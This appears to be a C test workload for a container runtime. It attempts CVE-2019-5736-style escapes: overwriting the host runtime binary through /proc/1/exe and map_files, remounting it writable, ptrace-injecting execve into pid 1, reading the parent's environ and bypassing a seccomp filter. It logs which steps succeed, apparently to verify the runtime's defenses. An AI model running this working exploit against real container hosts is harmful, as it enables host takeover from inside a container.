/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Runs in the container as the workload (static, copied into the rootfs):
 * attacks on the host's hrun binary through the init, its parent
 * (CVE-2019-5736).  Appends what it achieved to /out/log, one word a line.
 *
 *   exe_attack inject  the init is pid 1 (a pid namespace) and needs
 *                      CAP_SYS_PTRACE: open /proc/1/exe ("open"), fchmod
 *                      it 0777 ("fchmod"), clear read-only on its mount
 *                      or a clone of it ("remount"), then ptrace pid 1 into an
 *                      execve of /bin/sleep 7777 so nothing runs the binary
 *                      ("injected") and reopen the fd for writing
 *                      through /proc/self/fd/N ("rewritten")
 *   exe_attack parent  no pid namespace: the same on the parent's exe,
 *                      but the parent is SIGKILLed instead ("killed")
 *   exe_attack peek    open the parent's /proc/PID/environ and exe, read a
 *                      byte of each ("environ", "exe")
 *   exe_attack filter  the workload's seccomp filter denies mkdir ("self-mkdir"
 *                      if it does not), CAP_SYS_PTRACE: ptrace pid 1 into an
 *                      execve of mkdir /out/escaped ("injected"), which must
 *                      fail: the init is under the filter too.  pid 1 then
 *                      ends, and the attacker with it: no "done"
 *   exe_attack maps    the init is pid 1, CAP_SYS_ADMIN and CAP_SYS_PTRACE:
 *                      every /proc/1/map_files entry that is the binary
 *                      (the inode of /proc/1/exe: text, rodata, relro,
 *                      data), opened ("mapfiles"), fchmod 0777
 *                      ("mapfiles-fchmod"), reopened for writing
 *                      ("mapfiles-write")
 * Each then logs "done". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static FILE *out;

static void say(const char *what)
{
	fprintf(out, "%s\n", what);
	fflush(out);
}

static int open_pid_file(pid_t pid, const char *name)
{
	char path[64];

	snprintf(path, sizeof path, "/proc/%d/%s", (int)pid, name);
	return open(path, O_RDONLY);
}

static int readable(pid_t pid, const char *name)
{
	char c;
	int fd = open_pid_file(pid, name);

	return fd >= 0 && read(fd, &c, 1) == 1;
}

/* The binary's mount made writable (CAP_SYS_ADMIN): read-only cleared on
 * it, by mount_setattr and by a bind remount, and on a clone of it. */
static void try_remount(int exe)
{
	struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
	char path[64];
	int tree;

	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	if (mount_setattr(exe, "", AT_EMPTY_PATH, &attr, sizeof attr) == 0 ||
	    mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL) == 0) {
		if (open(path, O_WRONLY) >= 0 || errno == ETXTBSY)
			say("remount");
	}
	tree = open_tree(exe, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
	if (tree < 0 || mount_setattr(tree, "", AT_EMPTY_PATH, &attr, sizeof attr) < 0)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", tree);
	if (open(path, O_WRONLY) >= 0 || errno == ETXTBSY)
		say("remount");
}

/* Reopen the binary for writing once nothing runs it (5 s at most). */
static void rewrite(int exe)
{
	struct timespec tick = {0, 100000000};
	char path[64];

	snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
	for (int i = 0; i < 50; i++) {
		int fd = open(path, O_WRONLY);

		if (fd >= 0) {
			if (pwrite(fd, "PWND", 4, 0) == 4)
				say("rewritten");
			return;
		}
		if (errno != ETXTBSY)
			return;
		nanosleep(&tick, NULL);
	}
}

static int poke(pid_t pid, unsigned long long at, const void *data, size_t n)
{
	for (size_t i = 0; i < n; i += sizeof(long)) {
		long word = 0;

		memcpy(&word, (const char *)data + i, n - i < sizeof word ? n - i : sizeof word);
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0)
			return -1;
	}
	return 0;
}

/* Stop pid (blocked in a syscall) and make it execve prog with one
 * argument (each at most 15 bytes) from the syscall instruction it
 * stopped after; say "injected" before letting it go (a program that
 * ends at once ends pid 1, and the namespace with it). */
static int inject_execve(pid_t pid, const char *program, const char *argument)
{
	char prog[16] = { 0 }, secs[16] = { 0 };
	struct user_regs_struct r;
	unsigned long long argv[3];
	int status;

	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0 || ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 ||
	    waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &r) < 0)
		return -1;
	if ((ptrace(PTRACE_PEEKTEXT, pid, r.rip - 2, 0) & 0xffff) != 0x050f)
		return -1;
	strncpy(prog, program, sizeof prog - 1);
	strncpy(secs, argument, sizeof secs - 1);
	argv[0] = r.rsp + 32;
	argv[1] = r.rsp + 48;
	argv[2] = 0;
	if (poke(pid, r.rsp, argv, sizeof argv) < 0 || poke(pid, r.rsp + 32, prog, 16) < 0 ||
	    poke(pid, r.rsp + 48, secs, 16) < 0)
		return -1;
	r.rip -= 2;
	r.orig_rax = (unsigned long long)-1; /* no syscall restart */
	r.rax = SYS_execve;
	r.rdi = argv[0];
	r.rsi = r.rsp;
	r.rdx = 0;
	if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0)
		return -1;
	say("injected");
	return (int)ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void against(pid_t target, int kill_it)
{
	int exe = open_pid_file(target, "exe");

	if (exe < 0)
		return;
	say("open");
	if (fchmod(exe, 0777) == 0)
		say("fchmod");
	try_remount(exe);
	if (kill_it) {
		if (kill(target, SIGKILL) == 0)
			say("killed");
	} else {
		inject_execve(target, "/bin/sleep", "7777");
	}
	rewrite(exe);
}

/* Each mapping of pid 1 that is the binary's inode, whichever mount it
 * is reached through: chmod it, write it.  Other files (the host's libc)
 * are left alone. */
static void through_map_files(void)
{
	struct stat exe, st;
	struct dirent *e;
	DIR *d = opendir("/proc/1/map_files");
	char path[300];

	if (!d || stat("/proc/1/exe", &exe) < 0)
		return;
	while ((e = readdir(d))) {
		int fd;

		snprintf(path, sizeof path, "/proc/1/map_files/%s", e->d_name);
		fd = open(path, O_RDONLY);
		if (fd < 0 || fstat(fd, &st) < 0 || st.st_ino != exe.st_ino ||
		    st.st_dev != exe.st_dev) {
			if (fd >= 0)
				close(fd);
			continue;
		}
		say("mapfiles");
		if (fchmod(fd, 0777) == 0)
			say("mapfiles-fchmod");
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		int w = open(path, O_WRONLY);
		if (w >= 0 && pwrite(w, "PWND", 4, 0) == 4)
			say("mapfiles-write");
		close(fd);
	}
	closedir(d);
}

/* The workload's filter denies mkdir; pid 1, ptraced into an execve of
 * busybox mkdir, makes /out/escaped unless it is under the filter too. */
static void past_the_filter(void)
{
	if (mkdir("/out/self", 0755) == 0)
		say("self-mkdir");
	inject_execve(1, "/bin/mkdir", "/out/escaped");
}

int main(int argc, char **argv)
{
	pid_t parent = getppid();

	out = fopen("/out/log", "a");
	if (!out || argc != 2)
		return 2;
	if (strcmp(argv[1], "inject") == 0)
		against(1, 0);
	else if (strcmp(argv[1], "parent") == 0)
		against(parent, 1);
	else if (strcmp(argv[1], "maps") == 0)
		through_map_files();
	else if (strcmp(argv[1], "filter") == 0)
		past_the_filter();
	else if (strcmp(argv[1], "peek") == 0) {
		if (readable(parent, "environ"))
			say("environ");
		if (readable(parent, "exe"))
			say("exe");
	}
	say("done");
	return 0;
}
